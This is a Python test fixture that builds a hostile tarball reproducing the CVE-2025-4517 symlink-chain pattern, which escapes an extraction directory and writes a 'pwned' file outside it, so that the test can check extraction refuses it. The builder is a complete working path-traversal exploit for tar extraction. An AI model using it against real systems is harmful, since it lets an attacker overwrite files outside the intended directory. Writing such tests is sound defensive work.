"""Hostile archives built on the spot (never stored): what extraction must refuse."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

LEVELS = "abcdefghijklmnop"  # 16 one-letter symlinks
LONG = "d" * 247  # 16 x 248 characters: the real path nears PATH_MAX (4096)


def symlink_chain_tarball(path: Path, outside: Path) -> Path:
    """The CVE-2025-4517 pattern: a tarball whose `escape/pwned` lands in `outside/`.

    Level i holds a 247-character directory and a one-letter symlink to it, so the short name
    a/b/.../p reaches a real path too long for `os.path.realpath` to resolve further; a deep
    symlink under it points back up 16 levels, and `escape` goes through it and up past the
    destination into `outside` (an absolute directory), where the last member writes `pwned`.
    """
    def add(tf: tarfile.TarFile, name: str, kind: bytes, linkname: str = "", data: bytes = b"") -> None:
        ti = tarfile.TarInfo(name)
        ti.type, ti.linkname, ti.mode = kind, linkname, 0o755
        ti.size = len(data)
        tf.addfile(ti, io.BytesIO(data) if data else None)

    with tarfile.open(path, "w") as tf:
        at = ""
        for letter in LEVELS:
            add(tf, f"{at}{LONG}", tarfile.DIRTYPE)
            add(tf, f"{at}{letter}", tarfile.SYMTYPE, LONG)
            at += f"{LONG}/"
        deep = "/".join(LEVELS) + "/" + "l" * 254
        add(tf, deep, tarfile.SYMTYPE, "../" * len(LEVELS))
        # up from the destination to / (17 `..` covers any destination up to 17 levels deep)
        assert len(outside.parts) <= 17, outside
        add(tf, "escape", tarfile.SYMTYPE, deep + "/" + "../" * 17 + str(outside).lstrip("/"))
        add(tf, "escape/pwned", tarfile.REGTYPE, data=b"pwned\n")
    return path
